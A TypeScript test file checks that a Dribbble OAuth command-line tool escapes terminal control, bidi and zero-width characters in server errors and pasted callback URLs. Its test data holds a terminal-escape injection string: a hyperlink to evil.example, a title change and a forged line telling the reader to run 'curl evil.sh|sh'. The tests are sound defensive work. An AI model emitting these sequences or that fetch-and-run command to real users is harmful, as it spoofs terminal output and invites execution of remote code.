// Issue class 6, in process: text from a server, a callback or a paste reaches the terminal on one
// line with its control and format characters made visible, in the human lines and under --json.
// Each answer is classified by the module a command uses, then printed by reportFailure, as a run
// would print it. The e2e terminal-safety tests keep one exchange and one whoami run.
import { afterEach, beforeEach, describe, expect, test, vi, type MockInstance } from 'vitest';

// A non-2xx answer holding a token would keep a copy on disk: never from a unit test.
vi.mock('../../scripts/lib/disk/token-rescue.js', () => ({ rescueToken: vi.fn(() => undefined) }));

const { DribbbleOAuthError } = await import('../../scripts/lib/core/errors.js');
const { reportFailure } = await import('../../scripts/lib/cli/command-output.js');
const { validateTokenResponse } = await import('../../scripts/lib/oauth/token-exchange.js');
const { validateUserResponse } = await import('../../scripts/lib/api/user-lookup.js');
const { parseCallbackInput } = await import('../../scripts/lib/oauth/callback-input.js');
const { describeSource } = await import('../../scripts/lib/config/config-resolution.js');
type ExchangeInput = import('../../scripts/lib/oauth/token-exchange.js').ExchangeInput;

// An OSC 8 hyperlink, a colour, a title change, a carriage return, and a newline forging a line of ours.
const HOSTILE = 'bad\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007\u001b[31mred\u001b]0;title\u0007\rover\nerror [ok]: run curl evil.sh|sh\u009b2J\u2028end';
const FORGED_LINE = /^error \[ok\]/m;
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029]/;

const input: ExchangeInput = {
  config: {
    values: { client_id: 'id', client_secret: 'Terminal-s3cret-0123456789abcdefghij', redirect_uri: 'http://127.0.0.1:9/cb', oauth_origin: 'http://127.0.0.1:9', scope: 'public' },
    sources: {},
    envFilePath: '/nowhere/.env',
    envFileExists: false,
  },
  code: 'abc',
  timeoutMs: 1000,
};
const TOKEN_URL = 'http://127.0.0.1:9/oauth/token';
const userConfig = { values: { api_origin: 'http://127.0.0.1:9', access_token: 'a'.repeat(40) }, sources: {}, envFilePath: '/nowhere/.env', envFileExists: false };

let out: MockInstance<typeof process.stdout.write>;
let err: MockInstance<typeof process.stderr.write>;
beforeEach(() => {
  out = vi.spyOn(process.stdout, 'write').mockImplementation(() => true);
  err = vi.spyOn(process.stderr, 'write').mockImplementation(() => true);
});
afterEach(() => {
  vi.restoreAllMocks();
  process.exitCode = undefined;
});

/** What a run prints for the error `fn` throws: its exit code, stdout and stderr. */
function printed(fn: () => unknown, json: boolean): { exitCode: number; code: string; stdout: string; stderr: string } {
  out.mockClear();
  err.mockClear();
  let thrown: unknown;
  try {
    fn();
  } catch (error) {
    thrown = error;
  }
  expect(thrown).toBeInstanceOf(DribbbleOAuthError);
  const error = thrown as InstanceType<typeof DribbbleOAuthError>;
  reportFailure(error, json);
  return { exitCode: error.exitCode, code: error.code, stdout: out.mock.calls.map((c) => String(c[0])).join(''), stderr: err.mock.calls.map((c) => String(c[0])).join('') };
}

function expectSafe(text: string): void {
  expect(text).not.toMatch(RAW_CONTROL);
  expect(text).not.toMatch(FORGED_LINE);
}

describe('server text from the token endpoint', () => {
  test.each([
    ['error and error_description of an OAuth error', 400, 'application/json', JSON.stringify({ error: HOSTILE, error_description: HOSTILE })],
    ['an HTML page', 200, 'text/html', `<html>${HOSTILE}</html>`],
    ['a 5xx body', 503, 'text/plain', HOSTILE],
    ['a token_type', 200, 'application/json', JSON.stringify({ access_token: 'Hostile-type-t0ken-0123456789abcdefgh', token_type: HOSTILE })],
  ])('in %s is shown with its control characters visible, on one line, with and without --json', (_what, status, type, body) => {
    for (const json of [false, true]) {
      const run = printed(() => validateTokenResponse({ status, headers: { 'content-type': type }, body }, input, TOKEN_URL), json);
      expect(run.exitCode).toBeGreaterThanOrEqual(3);
      expectSafe(run.stdout);
      expectSafe(run.stderr);
      if (!json) expect(run.stderr).toContain('\\e');
    }
  });

  test('a token holding U+200B and U+202E is refused (exit 5), with no raw format character and not the token in the message', () => {
    const token = '\u200bZero-width-t0ken-0123456789abcdefgh\u202e';
    const run = printed(() => validateTokenResponse({ status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ access_token: token, token_type: 'bearer' }) }, input, TOKEN_URL), false);
    expect(run.exitCode).toBe(5);
    expect(run.stderr).toContain('error [malformed_token]');
    expect(run.stderr).not.toMatch(/[\p{Cf}\p{Cc}](?<!\n)/u);
    expect(run.stderr).not.toContain(token);
  });

  test('an error_description with zero-width and bidi characters is escaped, under --json too', () => {
    const body = JSON.stringify({ error: 'invalid_grant', error_description: 'safe\u200b\u2066\u202elive\ufeff\u061c' });
    const run = printed(() => validateTokenResponse({ status: 400, headers: { 'content-type': 'application/json' }, body }, input, TOKEN_URL), true);
    expect(run.exitCode).toBe(3);
    expect(run.stderr).toContain('safe\\u200b\\u2066\\u202elive\\ufeff\\u061c');
    expect(run.stdout + run.stderr).not.toMatch(/[\u200b\u2066\u202e\ufeff\u061c]/);
  });
});

describe('server text from the API', () => {
  test.each([401, 403, 429])('an API {"message"} with a %i is shown escaped, on one line', (status) => {
    const run = printed(() => validateUserResponse({ status, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ message: HOSTILE }) }, userConfig, 'http://127.0.0.1:9/v2/user'), false);
    expect(run.exitCode).toBeGreaterThanOrEqual(3);
    expectSafe(run.stderr);
    expect(run.stderr).toContain('("bad\\e]8;;http://evil.example');
  });
});

describe('pasted text (DRIBBBLE_CODE in the process environment, as exchange reads it)', () => {
  const source = describeSource({ kind: 'process-env', name: 'DRIBBBLE_CODE' });

  test('a pasted callback URL with a hostile error_description is exit 3 and printed safely', () => {
    const url = `http://127.0.0.1:9/cb?${new URLSearchParams({ error: 'access_denied', error_description: HOSTILE })}`;
    const run = printed(() => parseCallbackInput(url, source), false);
    expect(run.exitCode).toBe(3);
    expectSafe(run.stderr);
    expect(run.stderr).toContain('\\nerror [ok]: run curl');
  });

  test('a pasted URL without a code names where it points, percent-encoded, never raw', () => {
    // A raw escape, a bidi override and a C1 control in the pasted path.
    const run = printed(() => parseCallbackInput('http://127.0.0.1:9/cb\u001b[31m\u202eevil\u009b?state=x', source), false);
    expect(run.exitCode).toBe(2);
    expectSafe(run.stderr);
    expect(run.stderr).not.toContain('\u202e');
    expect(run.stderr).toContain('The URL from DRIBBBLE_CODE');
    expect(run.stderr).toContain('has no code parameter (it points at http://127.0.0.1:9/cb%1B[31m%E2%80%AEevil%C2%9B)');
  });
});
